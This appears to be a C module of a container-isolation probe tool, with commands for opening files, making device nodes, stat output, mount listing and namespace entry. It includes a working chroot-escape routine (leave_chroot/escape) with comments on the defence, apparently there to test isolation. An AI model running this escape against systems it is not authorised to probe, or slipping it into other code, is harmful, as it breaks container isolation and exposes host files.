/* Files, devices, mounts, and the classic escape from a chroot. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "probe.h"

/*
 * Makes a new directory in a place where this process may write. In a read-only container that is
 * often only /dev.
 */
static const char *temporary_directory(void)
{
	static char paths[][24] = { "/tmp/probe.XXXXXX", "/probe.XXXXXX", "/dev/probe.XXXXXX" };

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		if (mkdtemp(paths[i]))
			return paths[i];
	die("mkdir in /tmp, / and /dev");
}

static int open_path(char **argv)
{
	const char *mode = argv[1] ? argv[1] : "r";
	int flags = O_CLOEXEC | O_NOCTTY | O_NONBLOCK; /* do not wait for the other end of a FIFO */

	if (equal(mode, "w"))
		flags |= O_WRONLY;
	else if (equal(mode, "rw"))
		flags |= O_RDWR;
	else if (!equal(mode, "r"))
		usage("%s is not r, w or rw", mode);
	return print_result(open(argv[0], flags) >= 0);
}

static int device(char **argv)
{
	mode_t type = *argv[0] == 'c' ? S_IFCHR : S_IFBLK;
	unsigned int major = (unsigned int)number(argv[1], 0, 4095);
	unsigned int minor = (unsigned int)number(argv[2], 0, 1048575);
	const char *directory;
	char path[96];
	int made, opened;

	if (!equal(argv[0], "c") && !equal(argv[0], "b"))
		usage("%s is not c or b", argv[0]);
	directory = temporary_directory();
	snprintf(path, sizeof(path), "%s/device", directory);

	made = mknod(path, type | 0600, makedev(major, minor));
	printf("mknod %s\n", made ? errno_name(errno) : "ok");
	/* Read-only: to open a watchdog for writing would start it. */
	opened = made ? made : open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	printf("open %s\n", opened < 0 ? errno_name(errno) : "ok");
	if (!made)
		unlink(path);
	rmdir(directory);
	return opened < 0 ? NO : YES;
}

/*
 * The attack. chroot(2) sets the directory where an absolute path begins. ".." stops only at this
 * directory. chroot(2) changes nothing else, not even the current directory. So keep a descriptor
 * of the old root, move the root to a directory below it, and go back by the descriptor. Now this
 * process is outside of its root. ".." never meets the root, and leads up to the root of the mount
 * namespace, out of every chroot.
 *
 * Against this, pivot_root(2) makes the container's tree the root of its mount namespace, and the
 * old tree is unmounted: there is nothing above any more. Without CAP_SYS_CHROOT the first step
 * fails.
 */
static int leave_chroot(int root, const char *below)
{
	if (chroot(below) || fchdir(root))
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return -1;
	return chroot(".");
}

static int escape(char **argv)
{
	const char *below = temporary_directory();
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), error;
	char content[4096];
	ssize_t length = -1;

	if (root < 0)
		die("open /");
	if (!leave_chroot(root, below)) {
		int file = open(argv[0], O_RDONLY | O_CLOEXEC);

		if (file >= 0)
			length = read(file, content, sizeof(content));
	}
	error = errno;
	unlinkat(root, below + 1, AT_REMOVEDIR); /* relative to `root`: "/" may have moved */
	if (length < 0) {
		printf("contained: %s\n", errno_name(error));
		return NO;
	}
	if (length > 0 && content[length - 1] == '\n')
		length--;
	printf("escaped: %.*s\n", (int)length, content);
	return YES;
}

static const char *type_name(mode_t mode)
{
	static const char *const names[16] = {
		[S_IFREG >> 12] = "file",    [S_IFDIR >> 12] = "directory",
		[S_IFLNK >> 12] = "link",    [S_IFCHR >> 12] = "character",
		[S_IFBLK >> 12] = "block",   [S_IFIFO >> 12] = "fifo",
		[S_IFSOCK >> 12] = "socket",
	};
	const char *name = names[(mode & S_IFMT) >> 12];

	return name ? name : "unknown";
}

static int print_stat(char **argv)
{
	char target[4096];
	struct stat status;
	ssize_t length;

	if (lstat(argv[0], &status))
		die("stat %s", argv[0]);
	printf("type %s\nmode %04o\n", type_name(status.st_mode), status.st_mode & 07777);
	printf("uid %u\ngid %u\n", status.st_uid, status.st_gid);
	printf("device %u:%u\n", major(status.st_dev), minor(status.st_dev));
	if (S_ISCHR(status.st_mode) || S_ISBLK(status.st_mode))
		printf("rdev %u:%u\n", major(status.st_rdev), minor(status.st_rdev));
	if (S_ISLNK(status.st_mode)) {
		length = readlink(argv[0], target, sizeof(target));
		if (length < 0)
			die("readlink %s", argv[0]);
		printf("target %.*s\n", (int)length, target);
	}
	return YES;
}

/*
 * Prints a line of mountinfo, see proc_pid_mountinfo(5):
 * 36 35 98:0 /mnt1 /mnt2 rw,noatime shared:1 master:2 - ext3 /dev/root rw,errors=continue
 * A field may be empty, so that strtok would count wrongly.
 */
static void print_mount(char *line)
{
	const char *mountpoint = "", *options = "", *type, *super, *field;
	int shared = 0, slave = 0, unbindable = 0;

	line[strcspn(line, "\n")] = '\0';
	for (int i = 0; (field = strsep(&line, " ")) && !equal(field, "-"); i++) {
		if (i == 4)
			mountpoint = field;
		else if (i == 5)
			options = field;
		shared |= i > 5 && !strncmp(field, "shared:", 7);
		slave |= i > 5 && !strncmp(field, "master:", 7);
		unbindable |= i > 5 && equal(field, "unbindable");
	}
	type = strsep(&line, " ");
	strsep(&line, " "); /* the source */
	super = strsep(&line, " ");
	printf("%s %s %s %s ", mountpoint, type ? type : "", options, super ? super : "");
	if (shared && slave)
		puts("shared,slave");
	else if (shared)
		puts("shared");
	else if (slave)
		puts("slave");
	else
		puts(unbindable ? "unbindable" : "private");
}

/* Prints the mounts that `process` sees, a directory of `proc`. */
static void print_mounts(int proc, const char *process)
{
	char path[64], *line = NULL;
	size_t room = 0;
	FILE *file;

	snprintf(path, sizeof(path), "%s/mountinfo", process);
	file = fdopen(openat(proc, path, O_RDONLY | O_CLOEXEC), "r");
	if (!file)
		die("/proc/%s (is /proc mounted?)", path);
	while (getline(&line, &room, file) > 0)
		print_mount(line);
	free(line);
	fclose(file);
}

static int open_proc(void)
{
	return open("/proc", O_PATH | O_DIRECTORY | O_CLOEXEC);
}

static int mounts(char **argv)
{
	print_mounts(open_proc(), argv[0] ? argv[0] : "self");
	return YES;
}

/* Enters the namespace at its root: a process with another root does not see all of its mounts. */
static int all_mounts(char **argv)
{
	int proc = open_proc(), namespace;
	char path[64];

	snprintf(path, sizeof(path), "%s/ns/mnt", argv[0]);
	namespace = openat(proc, path, O_RDONLY | O_CLOEXEC);
	if (namespace < 0 || setns(namespace, CLONE_NEWNS))
		die("setns /proc/%s", path);
	print_mounts(proc, "self");
	return YES;
}

const struct command files_commands[] = {
	{ "open", "PATH [r|w|rw]", "open an existing file", open_path, 1, 2 },
	{ "device", "c|b MAJOR MINOR", "make a device node, and open it for reading", device, 3,
	  3 },
	{ "escape", "PATH", "break out of a chroot and read PATH there", escape, 1, 1 },
	{ "stat", "PATH", "type, mode, owner, device; links are not followed", print_stat, 1, 1 },
	{ "mounts", "[PID]",
	  "MOUNTPOINT TYPE OPTIONS SUPER_OPTIONS PROPAGATION of the mounts that PID sees", mounts,
	  0, 1 },
	{ "all-mounts", "PID", "the same of all mounts in the namespace of PID", all_mounts, 1, 1 },
	{ 0 },
};
